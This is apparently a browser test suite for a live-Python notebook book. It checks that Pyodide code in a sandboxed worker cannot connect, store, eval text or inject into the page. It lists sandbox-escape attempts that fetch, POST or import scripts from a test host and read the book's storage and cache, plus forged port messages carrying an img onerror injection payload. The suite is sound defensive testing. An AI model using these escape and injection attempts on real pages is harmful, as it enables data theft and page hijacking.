"""What runs in a page can neither connect, nor store, nor reach what the book keeps; nor can what a page is given."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from live_pages import Server, served
from two_browsers import RUN, START, Window, elsewhere, in_chromium, in_firefox

NAME = "nfc/01_slow_link"

FIREFOX = [pytest.mark.needs("firefox"), pytest.mark.night]  # before a landing, Chromium stands for both
pytestmark = [
    pytest.mark.slow,
    pytest.mark.needs("live", "chromium", "playwright"),
]

KEPT = """
const names = await caches.keys();
const kept = await Promise.all(names.map(async (name) => [name, (await (await caches.open(name)).keys()).length]));
const bases = (await indexedDB.databases()).map(({ name }) => name);
return JSON.stringify([kept, bases, Object.entries(localStorage), Object.entries(sessionStorage), document.cookie]);
"""
TRY = """
import asyncio, js
from pyodide.ffi import to_js
async def attempt():
    value = ({})
    return await value if hasattr(value, "__await__") else value
try:
    print("GOT", await asyncio.wait_for(attempt(), 1.5))
except BaseException as error:
    print("refused:", type(error).__name__, str(error)[:80])
"""
"""Runs one expression of Python and says what came of it."""
NATIVE = "js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch.call(js.self, "
ATTACKS = {
    "the worker's own fetch": f"{NATIVE}'HOST/fetch')",
    "fetch of the book": f"{NATIVE}'SITE/leak')",
    "a posted secret": f"{NATIVE}js.Request.new('HOST/post', to_js({{'method': 'POST', 'body': 'x'}})))",
    "pyodide.http": "__import__('pyodide.http').http.pyfetch('HOST/pyfetch')",
    "open_url": "__import__('pyodide.http').http.open_url('HOST/open')",
    "a request of the old kind": "[r := js.XMLHttpRequest.new(), r.open('GET', 'HOST/xhr', False), r.send()]",
    "a script": "js.importScripts('HOST/script.js')",
    "a script of the book": "js.importScripts('SITE/_static/book.js')",
    "text as a program": "js.eval('1 + 1')",
    "a function of text": "js.Function.new('return 1')()",
    "the cache of the book": "js.caches.open('voicewire-live-1')",
    "the storage of the book": "js.self.localStorage.getItem('voicewire:nfc/01_slow_link')",
    "a file system": "js.navigator.storage.getDirectory()",
    "a frame around it": "js.self.parent.document",
    "a socket": "__import__('socket').create_connection(('127.0.0.1', 1))",
}
"""Each is refused."""
SILENT = {
    "a web socket": "[js.WebSocket.new('ws://HOSTNAME/socket'), asyncio.sleep(0.5)][1]",
    "an event source": "[js.EventSource.new('HOST/events'), asyncio.sleep(0.5)][1]",
    "a data base": "[js.indexedDB.open('leak'), asyncio.sleep(0.5)][1]",
    "a channel": "js.BroadcastChannel.new('voicewire').postMessage('x')",
    "a worker from elsewhere": "[js.Worker.new('HOST/worker.js'), asyncio.sleep(1)][1]",
    "a worker of its own": (
        "[js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([\"importScripts('HOST/inner.js');\"]))))"
        ", asyncio.sleep(1)][1]"
    ),
}
"""Each may seem to begin, and nothing comes of it."""
FORGED = """
import js, json
from pyodide.ffi import create_proxy, to_js
port = js.MessagePort.prototype
class Catch: pass
def post(self, message, *rest):
    Catch.port = self
    return plain.call(self, message)
plain = port.postMessage
port.postMessage = create_proxy(post, capture_this=True)
print("x")  # goes out through the port, which is known then
port.postMessage = plain
for message in json.loads(MESSAGES):
    Catch.port.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
print("sent")
"""


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with served() as server:
        yield server


@pytest.fixture(scope="module", params=[in_chromium, pytest.param(in_firefox, marks=FIREFOX)])
def window(request: Any, server: Server) -> Iterator[Window]:
    with request.param(f"{server.address}notebooks/{NAME}.html") as window:
        assert window.run(START) == "Python is ready"
        yield window


def _tried(window: Window, server: Server, attacks: dict[str, str]) -> tuple[dict[str, str], list[str]]:
    """Try each attack; return what it says and what anybody was asked for, and see that nothing is kept."""
    before, said = window.run(KEPT), {}
    with elsewhere() as (host, asked):
        served = len(server.asked)
        for name, attack in attacks.items():
            for sign, address in (("HOSTNAME", host[7:]), ("HOST", host), ("SITE/", server.address)):
                attack = attack.replace(sign, address)
            how, said[name] = window.run(RUN, TRY.format(attack))
            assert how == "ok", said[name]
        assert window.run(KEPT) == before
        # When it likes, the browser looks whether the page's service worker is still the same; no attack asks for that.
        return said, asked + [path for path in server.asked[served:] if path != "/live-cache.js"]


def test_what_runs_cannot_connect_store_or_run_text(window: Window, server: Server) -> None:
    said, asked = _tried(window, server, ATTACKS)
    assert [name for name, text in said.items() if not text.startswith("refused: ")] == [], said
    assert asked == []


def test_what_seems_to_begin_reaches_nobody(window: Window, server: Server) -> None:
    _, asked = _tried(window, server, SILENT)
    assert asked == []


def test_forged_messages_to_the_page_pass_the_gate(window: Window, server: Server) -> None:
    """What runs can take the port to the page for itself; what comes through it is shown as text or passes the gate."""
    claim = window.run("return document.querySelector('[id^=claim-]')?.id ?? ''").removeprefix("claim-")
    with elsewhere() as (host, asked):
        bad = f'<img src="{host}/i.png" onerror="caught = 1"><b style="position: fixed; inset: 0">x</b>'
        messages = [
            None, 5, "x", {}, {"kind": "step", "text": bad}, {"kind": "failed", "text": bad}, {"kind": "ready"},
            {"kind": "bytes", "done": bad, "total": bad}, {"kind": "ran", "run": 1, "how": bad, "seconds": bad},
            {"kind": "judged", "rows": json.dumps([{"id": claim, "verdict": bad, "here": bad}])},
            {"kind": "judged", "rows": "no JSON"}, {"kind": "output", "run": 1, "output": {"data": {"text/html": bad}}},
            {"kind": "output", "run": 1, "output": None}, {"kind": "drawn", "ask": 1, "drawn": {"error": bad}},
        ]  # fmt: skip
        window.run("await import('/_static/live/judged.mjs')")  # the page's own, which is kept when it first comes
        before = window.run(KEPT)
        source = FORGED.replace("MESSAGES", repr(json.dumps(messages)))
        assert window.run(RUN, source)[0] == "ok"
        page = window.run("await new Promise((done) => setTimeout(done, 500)); return document.body.innerHTML")
        assert asked == [] and window.run("return window.caught ?? null") is None
        assert window.run(KEPT) == before
        assert f'<img src="{host}' not in page
    assert window.run(RUN, "print(6 * 7)")[1] == "42\n", "the page still works"


def test_the_frame_has_no_origin_and_its_policy_lets_it_fetch_nothing(window: Window) -> None:
    frame = "const frame = document.querySelector('iframe[sandbox]'); return "
    assert window.run(f"{frame} frame.getAttribute('sandbox')") == "allow-scripts"
    assert "default-src 'none'" in window.run(f"{frame} frame.srcdoc")
    assert window.run(f"{frame} frame.contentDocument") is None
